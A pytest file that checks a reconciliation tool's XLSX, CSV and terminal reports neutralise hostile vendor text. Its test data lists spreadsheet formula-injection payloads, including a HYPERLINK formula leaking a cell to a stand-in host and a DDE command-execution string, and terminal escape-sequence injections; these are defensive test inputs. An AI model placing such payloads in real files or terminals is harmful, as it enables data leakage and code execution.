"""Spreadsheets that run code: vendor text starting a formula stays text in XLSX and CSV; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from rich.console import Console

from reconcile.report.csvfile import CSV_ENCODING, render_csv
from reconcile.report.excel import render_xlsx
from reconcile.report.i18n import Catalogue
from reconcile.report.mismatches import EXCEPTION_COLUMNS
from reconcile.report.model import CellKind
from reconcile.report.safe import FORMULA_PREFIXES, csv_text, terminal_text, xlsx_text
from reconcile.report.terminal import render_table
from tests.unit.report.hostile import hostile_report

DANGEROUS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "#N/A",
    "=",
]
HEADINGS = {column.key: Catalogue("en").text(column.label_key) for column in EXCEPTION_COLUMNS}
MONEY = [HEADINGS[c.key] for c in EXCEPTION_COLUMNS if c.kind is CellKind.MONEY]


def _workbook(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.xlsx"
    render_xlsx(hostile_report(DANGEROUS), path)
    return path


def test_no_cell_of_the_workbook_is_a_formula_whatever_the_vendor_wrote(tmp_path: Path) -> None:
    book = load_workbook(_workbook(tmp_path))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type in {"f", "e"}
    ]
    assert formulas == []


def test_each_dangerous_prefix_reads_back_from_the_workbook_as_the_text_the_vendor_wrote(
    tmp_path: Path,
) -> None:
    book = load_workbook(_workbook(tmp_path))
    sheet = book.worksheets[1]
    rows = list(sheet.iter_rows(values_only=False))
    header = [cell.value for cell in rows[0]]
    assignee = header.index(HEADINGS["assignee"])
    shown = sorted(str(row[assignee].value) for row in rows[1:])
    assert shown == sorted(xlsx_text(text) for text in DANGEROUS)
    assert all(row[assignee].data_type == "s" for row in rows[1:])
    # A text that could start a formula is quote-prefixed: Excel keeps it text when edited.
    risky = [
        row[assignee]
        for row in rows[1:]
        if str(row[assignee].value)[:1] in "=+-@\t" or row[assignee].value == "#N/A"
    ]
    assert len(risky) == len(DANGEROUS) - 1  # the CR one reads back starting with a line feed
    assert all(cell.quotePrefix for cell in risky)


def test_amounts_stay_numbers_in_the_workbook_even_negative_ones(tmp_path: Path) -> None:
    book = load_workbook(_workbook(tmp_path))
    rows = list(book.worksheets[1].iter_rows())
    header = [cell.value for cell in rows[0]]
    for name in MONEY:
        cells = [row[header.index(name)] for row in rows[1:]]
        assert all(cell.data_type == "n" and isinstance(cell.value, int | float) for cell in cells), name
    right = [row[header.index(HEADINGS["right_amount"])].value for row in rows[1:]]
    assert set(right) == {-37.5}


def _csv_rows() -> list[dict[str, str]]:
    stream = io.StringIO()
    render_csv(hostile_report(DANGEROUS), stream)
    data = stream.getvalue().encode(CSV_ENCODING).decode(CSV_ENCODING)
    return list(csv.DictReader(io.StringIO(data, newline="")))


def test_each_dangerous_prefix_is_neutralised_by_a_leading_quote_in_the_csv() -> None:
    rows = _csv_rows()
    expected = ["#N/A" if text == "#N/A" else "'" + text for text in DANGEROUS]
    assert sorted(row[HEADINGS["assignee"]] for row in rows) == sorted(expected)
    text_columns = [HEADINGS[c.key] for c in EXCEPTION_COLUMNS if c.kind not in (CellKind.MONEY,)]
    live = [
        (name, row[name]) for row in rows for name in text_columns if row[name].startswith(FORMULA_PREFIXES)
    ]
    assert live == []


def test_the_explanation_column_starting_with_a_minus_is_neutralised_in_the_csv() -> None:
    explanations = [row[HEADINGS["explanation"]] for row in _csv_rows()]
    assert any(text.startswith("'-2+3#") for text in explanations)
    assert not any(text.startswith(FORMULA_PREFIXES) for text in explanations)


def test_amounts_stay_plain_numbers_in_the_csv_a_negative_one_without_a_quote() -> None:
    rows = _csv_rows()
    for name in MONEY:
        assert all(Decimal(row[name]) for row in rows if row[name])
    assert {row[HEADINGS["right_amount"]] for row in rows} == {"-37.50"}


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_text_quotes_exactly_the_owasp_prefixes(text: str) -> None:
    assert csv_text(text) == ("'" + text if text[:1] in "=+-@\t\r" else text)
    assert csv_text("total 5") == "total 5"
    assert csv_text("") == ""


HOSTILE_TERMINAL = [
    "[red]not red[/red]",
    "[link=http://evil.example]click[/link]",
    "\x1b]8;;http://evil.example\x1b\\click here\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[31mcleared and red\x1b[0m",
    "overwrite\rFAKE TOTAL 0.00",
    "bell\x07 backspace\x08 nul\x00 csi\x9b31m",
    "\u202eevil right-to-left override",
]


@pytest.mark.parametrize("plain", [False, True], ids=["rich table", "plain columns"])
def test_the_terminal_report_prints_markup_literally_and_no_escape_sequence(
    plain: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    if plain:
        monkeypatch.setattr("reconcile.report.terminal.RICH_ROWS", 0)
    out = io.StringIO()
    render_table(hostile_report(HOSTILE_TERMINAL), Console(file=out, width=400, color_system=None))
    text = out.getvalue()
    assert "[red]not red[/red]" in text
    assert "[link=http://evil.example]click[/link]" in text
    for control in ("\x1b", "\x07", "\x08", "\x00", "\x9b", "\r", "\u202e"):
        assert control not in text, repr(control)
    assert "cleared and red" in text
    assert "FAKE TOTAL 0.00" in text  # on a line of its own: the CR did not rewrite the line before


def test_terminal_text_keeps_every_printable_character() -> None:
    sample = "上海申远贸易 (Shanghai) — 100% «ok» 👍 \t tab"
    assert terminal_text(sample) == sample
    assert terminal_text("a\nb", one_line=True) == "a b"
